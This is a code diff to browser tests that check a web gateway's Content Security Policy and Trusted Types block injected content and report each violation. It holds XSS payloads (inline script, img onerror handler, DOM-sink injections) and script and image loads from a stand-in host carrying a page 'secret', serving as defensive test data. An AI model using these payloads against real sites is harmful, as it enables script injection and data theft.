@@ -1,7 +1,12 @@
-import { eventually, invitePerson } from '@foyer/testkit'
-import { expect, openSignIn, signIn, test } from '../story.ts'
+import { changeSettings, eventually, invitePerson } from '@foyer/testkit'
+import { expect, type GatewayUnderTest, openSignIn, signIn, test } from '../story.ts'
 
-const BLOCKED = /Content Security Policy/
+const BLOCKED = /Content Security [Pp]olicy|requires 'Trusted(HTML|Script|ScriptURL)'/
+const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"></svg>'
+
+function policyReports({ logLines }: GatewayUnderTest): string[] {
+  return logLines.filter((line) => line.includes('a page violated its policy'))
+}
 
 test('ASVS 3.4.3, ASVS 3.4.7 a script that got into the page does not run, and the gateway hears of it', async ({
   page,
@@ -9,17 +14,15 @@ test('ASVS 3.4.3, ASVS 3.4.7 a script that got into the page does not run, and t
   expected,
 }) => {
   expected.push(BLOCKED)
-  await openSignIn(page)
-  await page.evaluate(() => {
-    const script = document.createElement('script')
-    script.textContent = 'window.gotIn = "by a script"'
-    document.body.append(script)
-    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.gotIn = \'by a handler\'">')
-    document.body.append(
-      Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/code.js?secret=of-the-page' }),
-    )
+  const injected =
+    '<script>window.gotIn = "by a script"</script><img src="data:," onerror="window.gotIn = \'by a handler\'">' +
+    '<script src="https://elsewhere.example/code.js?secret=of-the-page"></script></body>'
+  await page.route('/', async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', injected) })
   })
-  const reports = () => gateway.logLines.filter((line) => line.includes('a page violated its policy'))
+  await openSignIn(page)
+  const reports = () => policyReports(gateway)
   await eventually('all three are reported', () => reports().length >= 3)
   expect(await page.evaluate(() => 'gotIn' in window)).toBe(false)
   const told = reports().map((line) => JSON.parse(line) as { directive: string; blocked: string })
@@ -30,6 +33,64 @@ test('ASVS 3.4.3, ASVS 3.4.7 a script that got into the page does not run, and t
   ])
   expect(told.map(({ blocked }) => blocked)).toContain('https://elsewhere.example/code.js')
   expect(reports().join()).not.toContain('of-the-page')
+})
+
+test('ASVS 3.4.3 no string becomes HTML, a script or its address, and the gateway hears of each try', async ({
+  page,
+  gateway,
+  expected,
+}) => {
+  expected.push(BLOCKED)
+  await signIn(page, 'manager')
+  const outcome = await page.evaluate(() => {
+    const outcomeOf = (act: () => unknown): string => {
+      try {
+        act()
+        return 'done'
+      } catch (error) {
+        return (error as Error).name
+      }
+    }
+    const payload = '<img src="data:," onerror="window.gotIn = 1">'
+    const script = document.createElement('script')
+    const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+    return [
+      () => document.body.append(Object.assign(document.createElement('div'), { innerHTML: payload })),
+      () => document.body.insertAdjacentHTML('beforeend', payload),
+      () => document.write(payload),
+      () => document.createRange().createContextualFragment(payload),
+      () => Object.assign(document.createElement('iframe'), { srcdoc: payload }),
+      () => new DOMParser().parseFromString(payload, 'text/html'),
+      () => Object.assign(script, { src: '/base/code.js' }),
+      () => Object.assign(script, { textContent: 'window.gotIn = 1' }),
+      () => trustedTypes.createPolicy('anything', { createHTML: (text: string) => text }),
+      () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
+    ].map(outcomeOf)
+  })
+  expect(outcome).toEqual(Array(10).fill('TypeError'))
+  expect(await page.evaluate(() => 'gotIn' in window)).toBe(false)
+  const directives = () => policyReports(gateway).map((line) => (JSON.parse(line) as { directive: string }).directive)
+  await eventually('every try is reported', () => directives().length >= 10)
+  expect([...new Set(directives())].sort()).toEqual(['require-trusted-types-for', 'trusted-types'])
+})
+
+test('ASVS 3.4.3 a picture of a host that no setting names is not requested', async ({ page, gateway, expected }) => {
+  expected.push(BLOCKED)
+  const requested: string[] = []
+  await page.context().route('https://*.example/**', async (route) => {
+    requested.push(route.request().url())
+    await route.fulfill({ contentType: 'image/svg+xml', body: PICTURE })
+  })
+  await changeSettings(gateway, { loginPageLogo: 'https://cdn.example/logo.svg' })
+  await openSignIn(page)
+  await expect
+    .poll(() => page.getByRole('img', { name: /Logo/ }).evaluate((logo: HTMLImageElement) => logo.naturalWidth))
+    .toBeGreaterThan(0)
+  await page.evaluate(() => {
+    document.body.append(Object.assign(new Image(), { src: 'https://elsewhere.example/?secret=of-the-page' }))
+  })
+  await eventually('the other picture is reported', () => policyReports(gateway).length === 1)
+  expect(requested).toEqual(['https://cdn.example/logo.svg'])
 })
 
 test('ASVS 3.4.3 neither eval, nor a foreign connection, nor a foreign form, nor a new base gets past the policy', async ({
@@ -68,7 +129,7 @@ test('ASVS 3.4.3 neither eval, nor a foreign connection, nor a foreign form, nor
     connected: 'refused',
     base: '127.0.0.1',
     path: '/home',
-    violated: ['base-uri', 'connect-src', 'form-action', 'script-src'],
+    violated: ['base-uri', 'connect-src', 'form-action', 'require-trusted-types-for'],
   })
 })
 
